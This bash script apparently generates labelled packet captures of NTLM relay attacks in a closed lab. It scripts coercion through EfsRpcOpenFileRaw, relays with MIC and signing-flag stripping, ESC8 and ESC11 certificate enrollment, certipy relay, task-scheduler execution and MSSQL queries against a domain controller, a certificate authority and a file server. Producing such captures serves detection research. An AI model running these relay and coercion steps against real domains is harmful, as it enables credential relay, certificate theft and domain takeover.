# Relays of NTLM with both legs in the capture: one function records one capture.

# quietly_on HOST COMMAND...
quietly_on() { timeout 25 "$HERE/in_host" "$@" >> "$RUN/clients.log" 2>&1 < /dev/null || true; }

MACHINE=${SRV_NAME^^}\$

# The victim's logons when no call of the capture is their cause: SMB as its machine account, by Samba's
# client (with a MIC, wants signing) or by impacket's (neither), HTTP and WebDAV by curl (no MIC).
machine_smb() { # listener
  quietly_on srv1 smbclient "//$1/IPC$" -t 8 -c exit --use-kerberos=off -s "$STATE/srv1/smb.conf" \
    -U "$DOMAIN/$MACHINE%$SRV_PW" '--option=client min protocol=SMB2_02' '--option=client ipc signing=if_required'
}
machine_impacket() { # listener
  quietly_on srv1 env PYTHONPATH="$HERE" "$CLIENTS/python" -c "import callback; print(callback.impacket_logon('$1'))"
}
machine_http() { # url [curl options]
  quietly_on srv1 curl -sS --max-time 12 -o /dev/null --ntlm -u "$DOMAIN\\$MACHINE:$SRV_PW" "$@"
}
machine_webdav() { # listener
  local dav=(-A 'Microsoft-WebDAV-MiniRedir/10.0.20348' -H 'translate: f' -X PROPFIND -H 'Depth: 0')
  machine_http "http://$1/share/file.txt" "${dav[@]}"
}
user_smb() { # listener
  quietly_on ws1 smbclient "//$1/share" -t 8 -c ls "${SMB_CLIENT[@]}" -U "$DOMAIN/$ALICE%$ALICE_PW"
}
user_http() { # url [curl options]
  quietly_on ws1 curl -sS --max-time 12 -o /dev/null --ntlm -u "$DOMAIN\\$ALICE:$ALICE_PW" "$@"
}

efs_call() { call "ncacn_np:$SRV[\\pipe\\lsarpc]" EfsRpcOpenFileRaw:lsarpc "${1:-$FILE}"; }

IMPACKET_TOOLS="tools=$IMPACKET_CALL"
CURL_TOOLS="tools=$IMPACKET_CALL, curl $(curl --version | awk 'NR == 1 {print $2}')"
RELAY=("${COERCED_HERE[@]}" family=relay)
USER_RELAY=(malicious=yes attacker=$EVIL victim=$WS1 listener=$EVIL family=relay)

scenario_relay_smb_http_adcs() {
  callback_with libsmbclient
  record relay_smb_http_adcs
  relay -t "http://$CA/certsrv/certfnsh.asp" --adcs --template Machine --no-http-server
  coercer --filter-method-name EfsRpcOpenFileRaw --filter-pipe-name lsarpc
  sleep 4
  truth "${COERCED_HERE[@]}" target=$CA expect=coercion:efsr expect=relay:smb-http expect=adcs-enrollment \
    tools="$COERCER_CALL" \
    notes="The whole chain known as ESC8: sealed coercion, the victim's SMB logon, the same NTLM messages to /certsrv over HTTP, a certificate request and the certificate on the relayed connection."
}

scenario_relay_smb_ldap() {
  callback_with impacket
  record relay_smb_ldap
  relay -t "ldap://$DC" --no-http-server --no-acl --remove-mic
  call "ncacn_np:$SRV[\\pipe\\lsarpc]" EfsRpcOpenFileRaw:lsarpc "$FILE"
  sleep 5
  truth "${COERCED_HERE[@]}" target=$DC expect=coercion:efsr expect=relay:smb-ldap tools="$IMPACKET_CALL" \
    notes="Sicily bind, success, then a dump of the directory over the relayed session. The victim's client is impacket, which sends no MIC; the proof is the same on both legs although the flags differ."
}

scenario_relay_smb_smb() {
  callback_with libsmbclient
  record relay_smb_smb
  relay -t "smb://$FILES" --no-http-server
  call "ncacn_np:$SRV[\\pipe\\lsarpc]" EfsRpcOpenFileRaw:lsarpc "$FILE"
  sleep 3
  truth "${COERCED_HERE[@]}" target=$FILES expect=coercion:efsr expect=relay:smb-smb tools="$IMPACKET_CALL" \
    notes="The target is a real Samba member that does not require signing; it asks the domain controller about the logon over its sealed NETLOGON channel."
}

# SMB to LDAP

LDAP_QUIET=(--no-dump --no-da --no-acl --no-validate-privs)

scenario_relay_smb_ldap_sasl() {
  callback_with impacket
  record relay_smb_ldap_sasl
  sasl_in_front
  relay_on smb -t "ldap://$EVIL" "${LDAP_QUIET[@]}" --remove-mic
  efs_call
  sleep 3
  truth "${RELAY[@]}" target=$DC expect=coercion:efsr expect=callback:smb expect=relay:smb-ldap "$IMPACKET_TOOLS" \
    notes="The bind is SASL GSS-SPNEGO with bare NTLMSSP tokens, as Windows clients and other relay tools send it; ntlmrelayx speaks Sicily to sicily.py on the attacker's own host, which is not on the mirror."
}

sasl_in_front() {
  "$HERE/in_host" evil "$CLIENTS/python" "$HERE/sicily.py" - $EVIL $DC > "$RUN/sasl.log" 2>&1 &
  HELPER=$!
  wait_for_port evil 389
}

scenario_relay_smb_ldap_mic_stripped() {
  record relay_smb_ldap_mic_stripped
  relay_on smb -t "ldap://$DC" "${LDAP_QUIET[@]}" --remove-mic
  machine_smb $EVIL
  sleep 3
  truth "${RELAY[@]}" target=$DC expect=relay:smb-ldap expect=tampering:mic expect=tampering:flags "$IMPACKET_TOOLS" \
    notes="The victim's client sends a MIC and wants signing; the relay takes MIC, version and flags out of the AUTHENTICATE. Samba sees that the MIC is announced and missing, and refuses. No call in the capture."
}

scenario_relay_smb_ldap_flags() {
  callback_with impacket
  record relay_smb_ldap_flags
  relay_on smb -t "ldap://$DC" "${LDAP_QUIET[@]}" --remove-sign-seal
  efs_call
  sleep 3
  truth "${RELAY[@]}" target=$DC expect=coercion:efsr expect=callback:smb expect=relay:smb-ldap "$IMPACKET_TOOLS" \
    notes="SIGN, ALWAYS_SIGN and SEAL are cleared in NEGOTIATE and AUTHENTICATE, a MIC was never there: flags tampered with, success."
}

scenario_relay_smb_ldap_signing() {
  callback_with libsmbclient
  record relay_smb_ldap_signing
  relay_on smb -t "ldap://$DC" "${LDAP_QUIET[@]}"
  efs_call
  sleep 3
  truth "${RELAY[@]}" target=$DC expect=coercion:efsr expect=callback:smb expect=relay:smb-ldap "$IMPACKET_TOOLS" \
    notes="Nothing is stripped: the client asked for signing, so the directory wants signed messages after the bind and the relay gets no further. Both legs are byte for byte the victim's."
}

scenario_relay_smb_ldap_user() {
  record relay_smb_ldap_user
  relay_on smb -t "ldap://$DC" "${LDAP_QUIET[@]}" --remove-mic
  user_smb $EVIL
  sleep 3
  truth "${USER_RELAY[@]}" target=$DC expect=relay:smb-ldap expect=tampering:mic expect=tampering:flags "$IMPACKET_TOOLS" \
    notes="A user account at a workstation follows a link to the attacker's share. Refused because the MIC is missing."
}

# SMB to SMB, HTTP, RPC, MSSQL

scenario_relay_smb_smb_user() {
  record relay_smb_smb_user
  relay_on smb -t "smb://$FILES" -c 'ver'
  user_smb $EVIL
  sleep 3
  truth "${USER_RELAY[@]}" target=$FILES expect=relay:smb-smb "$IMPACKET_TOOLS" \
    notes="A user account without rights on the target: the logon works, the service manager refuses."
}

scenario_relay_smb_smb_refused() {
  callback_with libsmbclient
  record relay_smb_smb_refused
  relay_on smb -t "smb://$DC"
  efs_call
  sleep 3
  truth "${RELAY[@]}" target=$DC expect=coercion:efsr expect=callback:smb expect=relay:smb-smb "$IMPACKET_TOOLS" \
    notes="The target is a domain controller, which requires signing: the relay is refused there."
}

scenario_relay_smb_smb_mic_stripped() {
  record relay_smb_smb_mic_stripped
  relay_on smb -t "smb://$FILES" --remove-mic
  machine_smb $EVIL
  sleep 3
  truth "${RELAY[@]}" target=$FILES expect=relay:smb-smb expect=tampering:mic expect=tampering:flags "$IMPACKET_TOOLS" \
    notes="MIC and signing flags taken out between two SMB legs."
}

scenario_relay_smb_http_app() {
  record relay_smb_http_app
  relay_on smb -t "http://$CA/app/report"
  machine_smb $EVIL
  sleep 2
  truth "${RELAY[@]}" target=$CA expect=relay:smb-http "$IMPACKET_TOOLS" \
    notes="A web application, not the certificate authority. MIC kept: the AUTHENTICATE is the victim's, byte for byte."
}

scenario_relay_smb_http_refused() {
  record relay_smb_http_refused
  relay_on smb -t "http://$CA/certsrv/certfnsh.asp" --adcs --template Machine
  quietly_on srv1 smbclient "//$EVIL/IPC$" -t 8 -c exit --use-kerberos=off -U "$DOMAIN/$MACHINE%not-the-password" "${SMB_CLIENT[@]}"
  sleep 2
  truth "${RELAY[@]}" target=$CA expect=relay:smb-http "$IMPACKET_TOOLS" \
    notes="The response does not verify: the web server answers the relayed AUTHENTICATE with 401, no certificate."
}

scenario_relay_smb_rpc_icpr() {
  callback_with libsmbclient
  record relay_smb_rpc_icpr
  relay_on smb -t "rpc://$CA" -rpc-mode ICPR -icpr-ca-name 'lab-CA'
  efs_call
  sleep 5
  truth "${RELAY[@]}" target=$CA expect=coercion:efsr expect=callback:smb expect=relay:smb-rpc expect=icpr-enrollment expect=chain "$IMPACKET_TOOLS" \
    notes="ESC11: endpoint mapper, a bind with the victim's NTLM at level CONNECT, CertServerRequest in clear, the certificate in the answer."
}

scenario_relay_smb_rpc_icpr_refused() {
  touch "$RUN/seal_only"
  record relay_smb_rpc_icpr_refused
  relay_on smb -t "rpc://$CA" -rpc-mode ICPR -icpr-ca-name 'lab-CA'
  machine_smb $EVIL
  sleep 5
  truth "${RELAY[@]}" target=$CA expect=relay:smb-rpc expect=icpr-enrollment "$IMPACKET_TOOLS" \
    notes="The authority takes requests at privacy level only (IF_ENFORCEENCRYPTICERTREQUEST): fault access denied."
  rm -f "$RUN/seal_only"
}

scenario_relay_smb_rpc_icpr_certipy() {
  record relay_smb_rpc_icpr_certipy
  certipy_relay "rpc://$CA" -ca 'lab-CA'
  machine_again $EVIL 2
  sleep 5
  truth "${RELAY[@]}" target=$CA expect=relay:smb-rpc expect=icpr-enrollment expect=rogue-server:ntlmrelayx \
    tools="certipy-ad 4.8.2, impacket 0.12.0, smbprotocol 1.17.0" \
    notes="The same request by another tool. Its listener starts with a challenge of its own (8 times 0x41) and relays the second logon on the same connection."
}

scenario_relay_smb_http_adcs_certipy() {
  record relay_smb_http_adcs_certipy
  certipy_relay "http://$CA"
  machine_again $EVIL 2
  sleep 5
  truth "${RELAY[@]}" target=$CA expect=relay:smb-http expect=adcs-enrollment expect=rogue-server:ntlmrelayx \
    tools="certipy-ad 4.8.2, impacket 0.12.0, smbprotocol 1.17.0" notes="ESC8 by another tool."
}

# A client that logs on several times on one connection, as Windows does
machine_again() { quietly_on srv1 "$CLIENTS/python" "$HERE/multi_logon.py" "$1" "$2"; }

certipy_relay() { # target [arguments]
  local target=$1; shift
  mkdir -p "$RUN/loot"
  (cd "$RUN/loot"; exec "$HERE/in_host" evil "$CERTIPY/python" -u "$CERTIPY/certipy" relay -target "$target" \
    -template Machine "$@") > "$RUN/relay.log" 2>&1 < /dev/null &
  LISTENER=$!
  wait_for_port evil 445
}

scenario_relay_smb_rpc_tsch() {
  record relay_smb_rpc_tsch
  relay_on smb -t "rpc://$CA" -rpc-mode TSCH -c 'ver'
  machine_smb $EVIL
  sleep 5
  truth "${RELAY[@]}" target=$CA expect=relay:smb-rpc expect=rpc-attack:remote-exec "$IMPACKET_TOOLS" \
    notes="The task scheduler: SchRpcRegisterTask, Run and Delete over a relayed bind at level CONNECT, all in clear. The scheduler is a stand-in that runs nothing."
}

scenario_relay_smb_mssql() {
  callback_with libsmbclient
  record relay_smb_mssql
  relay_on smb -t "mssql://$FILES" -q 'select name from master..sysdatabases'
  efs_call
  sleep 3
  truth "${RELAY[@]}" target=$FILES expect=coercion:efsr expect=callback:smb expect=relay:smb-mssql "$IMPACKET_TOOLS" \
    notes="LOGIN7 with the NEGOTIATE, an SSPI token with the CHALLENGE, a batch after it. tshark does not look for NTLM in the answers of TDS, so the challenge was found in the bytes."
}

scenario_relay_smb_mssql_user() {
  record relay_smb_mssql_user
  relay_on smb -t "mssql://$FILES" -q 'select system_user'
  user_smb $EVIL
  sleep 3
  truth "${USER_RELAY[@]}" target=$FILES expect=relay:smb-mssql "$IMPACKET_TOOLS" \
    notes="A user's logon, relayed to a database."
}

scenario_relay_smb_mssql_refused() {
  record relay_smb_mssql_refused
  relay_on smb -t "mssql://$FILES" -q 'select 1'
  quietly_on ws1 smbclient "//$EVIL/share" -t 8 -c ls "${SMB_CLIENT[@]}" -U "$DOMAIN/$ALICE%not-the-password"
  sleep 2
  truth "${USER_RELAY[@]}" target=$FILES expect=relay:smb-mssql "$IMPACKET_TOOLS" \
    notes="Login failed at the target."
}

# HTTP, WebDAV, RPC, WinRM and SQL listeners

scenario_relay_http_ldap() {
  record relay_http_ldap
  relay_on http -t "ldap://$DC" "${LDAP_QUIET[@]}"
  user_http "http://$EVIL/index.html"
  sleep 3
  truth "${USER_RELAY[@]}" target=$DC expect=relay:http-ldap "$CURL_TOOLS" \
    notes="A browser's client does not ask for signing: nothing has to be stripped for LDAP, the bind succeeds."
}

scenario_relay_http_smb() {
  record relay_http_smb
  relay_on http -t "smb://$FILES"
  user_http "http://$EVIL/index.html"
  sleep 3
  truth "${USER_RELAY[@]}" target=$FILES expect=relay:http-smb "$CURL_TOOLS" \
    notes="From a web logon to a file server."
}

scenario_relay_http_http() {
  record relay_http_http
  relay_on http -t "http://$CA/certsrv/certfnsh.asp" --adcs
  user_http "http://$EVIL/index.html"
  sleep 3
  truth "${USER_RELAY[@]}" target=$CA expect=relay:http-http expect=adcs-enrollment "$CURL_TOOLS" \
    notes="Both legs are HTTP, as with a reverse proxy, but method, target and Host of the requests differ and a certificate is asked for."
}

scenario_relay_webdav_ldap() {
  record relay_webdav_ldap
  relay_on http -t "ldap://$DC" "${LDAP_QUIET[@]}"
  machine_webdav $EVIL
  sleep 3
  truth "${RELAY[@]}" target=$DC expect=relay:webdav-ldap expect=webdav "$CURL_TOOLS" \
    notes="The WebClient service of the victim asks for \\\\evil@80\\share\\file.txt as the machine account: PROPFIND with the redirector's User-Agent. The client is curl."
}

scenario_relay_webdav_http() {
  record relay_webdav_http
  relay_on http -t "http://$CA/certsrv/certfnsh.asp" --adcs --template Machine
  machine_webdav $EVIL
  sleep 4
  truth "${RELAY[@]}" target=$CA expect=relay:webdav-http expect=webdav expect=adcs-enrollment "$CURL_TOOLS" \
    notes="WebDAV to the certificate authority's web pages."
}

scenario_relay_webdav_smb() {
  record relay_webdav_smb
  relay_on http -t "smb://$FILES"
  machine_webdav $EVIL
  sleep 3
  truth "${RELAY[@]}" target=$FILES expect=relay:webdav-smb expect=webdav "$CURL_TOOLS" \
    notes="WebDAV to a file server."
}

machine_rpc() { # listener
  quietly_on srv1 rpcclient "ncacn_ip_tcp:$1[135,$2]" -s "$STATE/srv1/smb.conf" --use-kerberos=off \
    -U "$DOMAIN/$MACHINE%$SRV_PW" -c 'epmmap'
}

scenario_relay_rpc_smb() {
  record relay_rpc_smb
  relay_on rpc -t "smb://$FILES"
  machine_rpc $EVIL connect
  sleep 3
  truth "${RELAY[@]}" target=$FILES expect=relay:rpc-smb "$IMPACKET_TOOLS" \
    notes="The victim calls the attacker's endpoint mapper on 135 with NTLM in the bind at level CONNECT, as after an OXID resolution; the same exchange goes to SMB."
}

scenario_relay_rpc_http() {
  record relay_rpc_http
  relay_on rpc -t "http://$CA/certsrv/certfnsh.asp" --adcs --template Machine
  machine_rpc $EVIL connect
  sleep 4
  truth "${RELAY[@]}" target=$CA expect=relay:rpc-http expect=adcs-enrollment "$IMPACKET_TOOLS" \
    notes="From an RPC bind to the certificate authority's web pages."
}

scenario_relay_rpc_ldap() {
  record relay_rpc_ldap
  relay_on rpc -t "ldap://$DC" "${LDAP_QUIET[@]}"
  machine_rpc $EVIL connect
  sleep 3
  truth "${RELAY[@]}" target=$DC expect=relay:rpc-ldap "$IMPACKET_TOOLS" \
    notes="From an RPC bind to LDAP."
}

scenario_relay_winrm_smb() {
  record relay_winrm_smb
  relay_on winrm -t "smb://$FILES"
  user_http "http://$EVIL:5985/wsman" -A 'Microsoft WinRM Client' -H 'Content-Type: application/soap+xml;charset=UTF-8' -d '<xml/>'
  sleep 3
  truth "${USER_RELAY[@]}" target=$FILES expect=relay:winrm-smb "$CURL_TOOLS" \
    notes="An administrator's WinRM client, port 5985, at the attacker's host."
}

scenario_relay_mssql_smb() {
  record relay_mssql_smb
  relay_on mssql -t "smb://$FILES"
  quietly_on ws1 "$IMPACKET/python" "$IMPACKET/mssqlclient.py" -windows-auth "$DOMAIN/$ALICE:$ALICE_PW@$EVIL"
  sleep 3
  truth "${USER_RELAY[@]}" target=$FILES expect=relay:mssql-smb "$IMPACKET_TOOLS" \
    notes="The victim's client logs in to a database that is the attacker's."
}

# Several targets, third-party listener, IPv6

several_targets() { printf '%s\n' "smb://$FILES" "http://$CA/app/report" "smb://$DC" > "$RUN/targets"; }

scenario_relay_multi_targets() {
  several_targets
  record relay_multi_targets
  relay_on smb -tf "$RUN/targets"
  machine_again $EVIL 4
  sleep 3
  truth "${RELAY[@]}" target=$FILES also=target:$CA also=target:$DC expect=relay:smb-smb expect=relay:smb-http \
    expect=rogue-server:ntlmrelayx tools="$IMPACKET_CALL, smbprotocol 1.17.0" \
    notes="One listener, three targets: after a first logon with the tool's own challenge (8 times 0x41) each TREE_CONNECT gets STATUS_NETWORK_SESSION_EXPIRED and the client logs on again on the same TCP connection, each time with another target's challenge."
}

scenario_relay_multi_targets_http() {
  several_targets
  record relay_multi_targets_http
  relay_on http -tf "$RUN/targets"
  user_http "http://$EVIL/index.html" -L
  sleep 3
  truth "${USER_RELAY[@]}" target=$FILES also=target:$CA also=target:$DC expect=relay:http-smb expect=relay:http-http \
    "$CURL_TOOLS" \
    notes="The same over HTTP: each success is answered with a redirect, and the client logs on again."
}

third_party() { # port: ws2 forwards it to the attacker
  "$HERE/in_host" ws2 socat "TCP-LISTEN:$1,bind=$WS2,reuseaddr,fork" "TCP:$EVIL:$1" > "$RUN/socat.log" 2>&1 &
  HELPER=$!
  wait_for_port ws2 "$1"
}
THIRD_PARTY=(malicious=yes attacker=$EVIL victim=$SRV listener=$WS2 also=listener:$EVIL family=relay)

scenario_relay_third_party_http() {
  callback_with libsmbclient
  record relay_third_party_http
  third_party 445
  relay_on smb -t "http://$CA/certsrv/certfnsh.asp" --adcs --template Machine
  efs_call "\\\\$WS2\\share\\file.txt"
  sleep 4
  truth "${THIRD_PARTY[@]}" target=$CA expect=coercion:efsr expect=callback:smb expect=relay:smb-http expect=adcs-enrollment expect=chain \
    tools="$IMPACKET_CALL, socat 1.7.4" \
    notes="The victim logs on at a workstation that forwards port 445 to the attacker: the same challenge on three flows, and the listener is not the host that relays."
}

scenario_relay_third_party_smb() {
  callback_with libsmbclient
  record relay_third_party_smb
  third_party 445
  relay_on smb -t "smb://$FILES"
  efs_call "\\\\$WS2\\share\\file.txt"
  sleep 3
  truth "${THIRD_PARTY[@]}" target=$FILES expect=coercion:efsr expect=callback:smb expect=relay:smb-smb tools="$IMPACKET_CALL, socat 1.7.4" \
    notes="Three flows, all SMB."
}

# ipv6 on|off: with addresses of the link, as hosts have them that nobody set up by hand. The scenarios name
# fd10::20, ::66 and ::50 whatever the lab's other addresses are.
ipv6() {
  local host ns
  for host in srv1:20:$SRV evil:66:$EVIL ws1:50:$WS1; do
    ns=$NS${host%%:*}
    if [ "$1" = on ]; then
      # Only when IPv6 begins is such an address made; without DAD it can be used at once.
      ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1
      ip netns exec "$ns" sysctl -qw net.ipv6.conf.eth0.addr_gen_mode=0 net.ipv6.conf.eth0.accept_dad=0
      ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=0 net.ipv6.conf.eth0.disable_ipv6=0
      host=${host#*:}
      ip -n "$ns" addr add "fd10::${host%%:*}/64" dev eth0 nodad
    else
      ipv6_by_hand "$ns" "${host##*.}"
    fi
  done
}

scenario_relay_ipv6_smb_http() {
  ipv6 on
  record relay_ipv6_smb_http
  relay_on smb -6 -t "http://$CA/app/report"
  machine_smb fd10::66
  sleep 2
  truth "${RELAY[@]}" victim=fd10::20 listener=fd10::66 also=victim:$SRV also=listener:$EVIL target=$CA expect=relay:smb-http "$IMPACKET_TOOLS" \
    notes="The victim's leg is IPv6, the target's IPv4."
  ipv6 off
}

scenario_relay_ipv6_http_smb() {
  ipv6 on
  record relay_ipv6_http_smb
  relay_on http -6 -t "smb://$FILES"
  user_http "http://[fd10::66]/index.html"
  sleep 3
  truth "${USER_RELAY[@]}" victim=fd10::50 listener=fd10::66 also=victim:$WS1 also=listener:$EVIL target=$FILES expect=relay:http-smb "$CURL_TOOLS" \
    notes="A user's web logon over IPv6, relayed to SMB over IPv4."
  ipv6 off
}
